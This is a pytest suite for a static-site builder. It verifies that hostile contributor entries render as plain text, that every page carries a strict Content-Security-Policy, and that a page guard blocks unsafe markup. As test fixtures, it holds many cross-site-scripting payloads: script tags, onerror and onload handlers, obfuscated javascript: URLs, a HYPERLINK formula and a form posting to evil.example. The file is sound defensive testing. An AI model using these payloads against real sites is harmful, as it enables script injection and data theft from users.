"""Hostile text renders inert on every page, and the page guard refuses to publish script.

Two walls are tested separately: entries that pass validation but try to break out of their
place (tests/fixtures/hostile), and entries that bypass validation altogether (handed to the
build directly), which must still come out as text.
"""

from __future__ import annotations

import re
from dataclasses import replace
from pathlib import Path

import pytest
import yaml
from mkdocs.commands.build import build as mkdocs_build
from mkdocs.config import load_config

from site_builder.build import build_site
from site_builder.model import Solution, Vendor
from site_builder.pipeline import check
from site_builder.render import csp

from browser.sitekit import article, built_site, catalog_date, page, visible_text
from conftest import REPO, make_project

pytestmark = pytest.mark.slow

TAG = re.compile(r"<([a-zA-Z][a-zA-Z0-9-]*)(\s[^>]*)?>")
HOSTILE_NAME = "Evil &lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt; \"quoted\" 'apos' & Co"


def _all_pages(site: Path) -> list[Path]:
    return sorted(site.rglob("*.html"))


def _event_handlers(text: str) -> list[str]:
    """Start tags with an on*= attribute (quoted values blanked first: text inside them is no attribute)."""
    found = []
    for match in TAG.finditer(text):
        attributes = re.sub(r'"[^"]*"|\'[^\']*\'', '""', match.group(2) or "")
        names = re.findall(r"""(?:^|\s)([^\s"'=/>]+)(?=\s*=|\s|$)""", attributes)
        found += [match.group(0) for name in names if name.lower().startswith("on")]
    return found


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return built_site(tmp_path_factory.mktemp("hostile"), "hostile")


def test_hostile_vendor_name_is_text_in_title_header_and_body(hostile_site: Path) -> None:
    text = page(hostile_site, "vendors/hostile-vendor/")
    title = re.findall(r"<title>(.*?)</title>", text, re.DOTALL)
    assert len(title) == 1
    assert "<script" not in title[0]
    assert "&lt;script" not in title[0]
    assert title[0].startswith("Evil &amp;lt;/title&amp;gt;")
    topic = text.index('<div class="md-header__topic">', text.index('data-md-component="header-title"') + 1)
    header = text[text.index(">", text.index('<div class="md-header__topic">', topic + 1)) + 1 :]
    assert visible_text(header[: header.index("</div>")]) == HOSTILE_NAME
    assert HOSTILE_NAME in visible_text(article(text))


def test_hostile_pages_hold_no_script_or_handler_of_their_own(hostile_site: Path) -> None:
    for path in _all_pages(hostile_site):
        text = path.read_text(encoding="utf-8")
        assert not _event_handlers(text), path
        meta = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', text)
        assert meta, path
        assert "'unsafe-inline'" not in meta.group(1)
        allowed = set(re.findall(r"'sha256-[^']+'", meta.group(1)))
        for body in csp.inline_scripts(text):
            assert csp.script_hash(body) in allowed, path
        for source in re.findall(r'<script[^>]*\ssrc="([^"]+)"', text):
            assert not re.match(r"^[a-z]+:|^//", source), (path, source)


# Every restriction of the policy: what differs from default-src 'self' is stated, the rest
# (scripts, styles, fonts, fetches, workers) falls back to it.
MINIMAL_POLICY = (
    "default-src 'self'; img-src 'self' data:; object-src 'none'; frame-src 'none'; "
    "base-uri 'self'; form-action 'self'"
)


def test_no_page_has_an_inline_script_so_every_policy_is_the_minimal_one(hostile_site: Path) -> None:
    """The theme's inline scripts are moved into assets/catalog/scope.js or left out, so no page
    needs a hash: each page's policy is exactly the one without script-src, and the build's own
    check still finds an inline script a page would carry (see the leak test below)."""
    policies = set()
    for path in _all_pages(hostile_site):
        text = path.read_text(encoding="utf-8")
        assert csp.inline_scripts(text) == [], path
        assert "assets/stylesheets/palette." not in text, path  # unused: see test_site_frame_assets
        meta = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', text)
        policies.add(meta.group(1) if meta else None)
    assert policies == {MINIMAL_POLICY}
    assert csp.policy([]) == MINIMAL_POLICY
    with_hash = csp.policy(["'sha256-a'"])
    assert with_hash.startswith("default-src 'self'; script-src 'self' 'sha256-a'; ")
    assert with_hash.replace(" script-src 'self' 'sha256-a';", "") == MINIMAL_POLICY
    assert (hostile_site / "assets" / "catalog" / "scope.js").is_file()


def guard_problems(site: Path) -> dict[str, list[str]]:
    """The build's page guard run over every finished page: entry pages filled into their
    folder's shell are not scanned one by one in the build (their bodies come from autoescaping
    templates and the sanitizer), so the suite scans the whole output of hostile builds."""
    found = {}
    for path in _all_pages(site):
        text = path.read_text(encoding="utf-8")
        meta = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', text)
        allowed = set(re.findall(r"'sha256-[^']+'", meta.group(1) if meta else ""))
        problems, _ = csp.check_page(text, allowed)
        if problems or not meta:
            found[path.relative_to(site).as_posix()] = problems or ["no policy"]
    return found


def test_every_page_of_a_hostile_build_passes_the_page_guard(hostile_site: Path) -> None:
    assert len(_all_pages(hostile_site)) > 20
    assert guard_problems(hostile_site) == {}


def test_the_guard_over_the_output_sees_what_a_template_would_leak(
    hostile_site: Path, tmp_path: Path
) -> None:
    """If a template let contributor text out as markup, the scan above would fail: shown by a
    copy of a built page with one such leak."""
    site = tmp_path / "site"
    source = hostile_site / "solutions" / "hostile-solution" / "index.html"
    leaked = site / "solutions" / "hostile-solution" / "index.html"
    leaked.parent.mkdir(parents=True)
    text = source.read_text(encoding="utf-8")
    leaked.write_text(text.replace("</article>", '<img src="x" onerror="alert(1)"></article>', 1), "utf-8")
    assert guard_problems(site) == {
        "solutions/hostile-solution/index.html": ["<img> has an event-handler attribute onerror="]
    }


def test_hostile_solution_stays_text_and_its_heading_stays_below_the_page_title(hostile_site: Path) -> None:
    body = article(page(hostile_site, "solutions/hostile-solution/"))
    assert body.count("<h1") == 1
    assert "<h3>A heading from a contributor</h3>" in body
    words = visible_text(body)
    assert "javascript:alert(7) \" ' & ` onload=alert(8) remains text" in words
    assert '=HYPERLINK("https://hostile.example","click") &lt;b&gt;' in words
    assert 'href="https://hostile.example/a" rel="noreferrer"' in body


def test_hostile_vendor_markdown_renders_as_written(hostile_site: Path) -> None:
    body = article(page(hostile_site, "vendors/hostile-vendor/"))
    assert "<strong>bold</strong> &amp; <em>careful</em>, and 3 &lt; 4 while 5 &gt; 4." in body
    assert "x&#34; onmouseover=&#34;alert(2)" in body or "x&quot; onmouseover=&quot;alert(2)" in body


def _hostile_result(root: Path) -> object:
    """The good fixture's result with entries no validator would pass."""
    result = check(root)
    vendor = result.catalog.vendors["acme-gov"]
    data = dict(vendor.data)
    data["name"] = "<img src=x onerror=alert(1)>"
    data["description"] = (
        "<script>alert(2)</script> [x](javascript:alert(3)) ![i](https://evil.example/i.png)"
    )
    data["homepage"] = "javascript:alert(4)"
    result.catalog.vendors["acme-gov"] = Vendor(vendor.kind, vendor.id, vendor.file, data)
    solution = result.catalog.solutions["acme-case-manager"]
    sdata = dict(solution.data)
    sdata["summary"] = '"><svg onload=alert(5)>'
    sdata["documents"] = [{"title": "<b>doc</b>", "url": "javascript:alert(6)", "type": "other"}]
    result.catalog.solutions["acme-case-manager"] = replace(solution, data=sdata)
    assert isinstance(result.catalog.solutions["acme-case-manager"], Solution)
    return result


def test_unvalidated_script_still_comes_out_as_text(tmp_path: Path) -> None:
    root = make_project(tmp_path / "project")
    site = tmp_path / "site"
    with catalog_date():
        result = _hostile_result(root)
        config = load_config(str(root / "mkdocs.yml"), site_dir=str(site))
        config.plugins["catalog"].reuse(result)
        mkdocs_build(config)
    for path in _all_pages(site):
        text = path.read_text(encoding="utf-8")
        assert "<img src=x" not in text, path
        assert "<svg onload" not in text, path
        assert "alert(2)</script>" not in text, path
        assert 'href="javascript:' not in text, path
        assert not _event_handlers(text), path
    assert guard_problems(site) == {}
    vendor = page(site, "vendors/acme-gov/")
    assert "&lt;img src=x onerror=alert(1)&gt;" in vendor
    assert "<img" not in article(vendor)  # images are off: the address stays a plain link


@pytest.mark.parametrize(
    ("markdown", "reason"),
    [
        ("# Note\n\n<script>alert(1)</script>\n", "an inline <script>"),
        ('# Note\n\n<a href="#" onclick="alert(1)">x</a>\n', "event-handler attribute onclick="),
        ('# Note\n\n<p style="color:red">x</p>\n', "inline style attribute"),
        ('# Note\n\n<img src="https://tracker.example/p.gif" alt="">\n', "from another site"),
        ('# Note\n\n<a href="javascript:alert(1)">x</a>\n', "script URL"),
        # Spelled as a browser forgives: the guard parses like one (Lexbor) and reads URLs like one.
        ('# Note\n\n<div><img src="x"/onerror=alert(1)></div>\n', "event-handler attribute onerror="),
        ('# Note\n\n<a href="java&#x09;script:alert(1)">x</a>\n', "script URL in href="),
        ('# Note\n\n<div><a href=" JaVa\nScRiPt:alert(1)">x</a></div>\n', "script URL in href="),
        (
            '# Note\n\n<video poster="https://tracker.example/p.jpg"></video>\n',
            "loads https://tracker.example",
        ),
        (
            '# Note\n\n<svg><image href="https://tracker.example/i.svg"/></svg>\n',
            "loads https://tracker.example",
        ),
        (
            '# Note\n\n<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>\n',
            "script URL in xlink:href=",
        ),
        ('# Note\n\n<img src="\\\\tracker.example/p.gif" alt="">\n', "loads //tracker.example/p.gif"),
        (
            '# Note\n\n<img srcset="a.png 1x, https://tracker.example/b.png 2x" alt="">\n',
            "loads https://tracker.example",
        ),
        (
            '# Note\n\n<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>\n',
            "inline document (srcdoc=)",
        ),
        (
            '# Note\n\n<form action="https://evil.example/collect"><button>Go</button></form>\n',
            "sends a form to",
        ),
    ],
)
def test_guard_fails_the_build_on_script_in_docs_and_leaves_no_site(
    tmp_path: Path, markdown: str, reason: str, capsys: pytest.CaptureFixture[str]
) -> None:
    root = make_project(tmp_path / "project")
    (root / "docs" / "note.md").write_text(markdown, encoding="utf-8")
    with catalog_date():
        code = build_site(root, tmp_path / "site", strict=True)
    assert code == 1
    assert not (tmp_path / "site").exists()
    assert [p.name for p in tmp_path.iterdir()] == ["project"]  # no staging folder left behind
    err = capsys.readouterr().err
    assert "note.md" in err
    assert reason in err


def test_mkdocs_yml_enables_exactly_the_reviewed_plugins_and_extensions() -> None:
    config = yaml.safe_load((REPO / "mkdocs.yml").read_text(encoding="utf-8"))
    assert config["plugins"] == ["catalog"]
    names = [e if isinstance(e, str) else next(iter(e)) for e in config["markdown_extensions"]]
    assert names == ["admonition", "tables", "toc"]
    assert config["theme"]["font"] is False
    assert config["extra"]["scope"] == "/"
    assert not re.search(r"^[^#]*!ENV", (REPO / "mkdocs.yml").read_text(encoding="utf-8"), re.MULTILINE)


def test_plugin_refuses_extensions_that_evaluate_or_include_text(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    root = make_project(tmp_path / "project")
    text = (root / "mkdocs.yml").read_text(encoding="utf-8")
    (root / "mkdocs.yml").write_text(
        text.replace("  - admonition\n", "  - admonition\n  - attr_list\n"), "utf-8"
    )
    with catalog_date():
        assert build_site(root, tmp_path / "site", strict=True) == 1
    assert not (tmp_path / "site").exists()
    err = capsys.readouterr().err
    assert "remove attr_list from mkdocs.yml" in err
    assert "the site was not built" in err


@pytest.mark.parametrize(
    ("written", "read"),
    [
        (" \tjava\nscript:alert(1)\x00 ", "javascript:alert(1)"),
        ("\\\\evil.example/x", "//evil.example/x"),
        ("/\\evil.example", "//evil.example"),
        ("https://a.example/ok", "https://a.example/ok"),
    ],
)
def test_urls_are_read_the_way_browsers_read_them(written: str, read: str) -> None:
    assert csp.browser_url(written) == read


def test_policy_meta_comes_first_in_head() -> None:
    html = "<!doctype html><html><head><meta charset=utf-8><script>x()</script></head><body></body></html>"
    secured = csp.add_policy(html, csp.policy([csp.script_hash("x()")]))
    assert secured.index("Content-Security-Policy") < secured.index("charset")
    assert csp.script_hash("x()") in secured
    problems, hashes = csp.check_page(secured, {csp.script_hash("x()")})
    assert problems == []
    assert hashes == [csp.script_hash("x()")]
    problems, _ = csp.check_page(secured.replace("x()", "y()"), {csp.script_hash("x()")})
    assert problems
    assert "not one of the theme's" in problems[0]
    assert "'unsafe-inline'" in csp.policy([], preview=True)
    assert "'unsafe-inline'" not in csp.policy(["'sha256-a'"])


def test_the_theme_templates_of_a_folder_are_those_jinja_lists(tmp_path: Path) -> None:
    """The theme's script partials, whose inline scripts the policy would allow, are listed from
    their folders alone: the same names as Jinja's listing of the whole theme, for the project's
    theme, one with an override folder shadowing and adding partials, and any other loader."""
    from jinja2 import ChoiceLoader, Environment, FileSystemLoader

    config = load_config(str(REPO / "mkdocs.yml"), site_dir=str(tmp_path / "site"))
    override = tmp_path / "override"
    (override / "partials" / "javascripts" / "more").mkdir(parents=True)
    (override / "partials" / "javascripts" / "base.html").write_text("<script>a()</script>")
    (override / "partials" / "javascripts" / "more" / "extra.html").write_text("<script>b()</script>")
    (override / "partials" / "javascripts-not.html").write_text("")
    theme = config.theme.get_env()
    assert isinstance(theme.loader, FileSystemLoader)
    with_override = Environment(
        loader=FileSystemLoader([str(override), *theme.loader.searchpath]), autoescape=True
    )
    other = Environment(loader=ChoiceLoader([with_override.loader]), autoescape=True)
    for env in (theme, with_override, other):
        whole = env.list_templates(filter_func=lambda name: name.startswith("partials/javascripts/"))
        assert whole
        assert csp.templates_in(env, "partials/javascripts") == whole
    assert "partials/javascripts/more/extra.html" in csp.templates_in(with_override, "partials/javascripts")
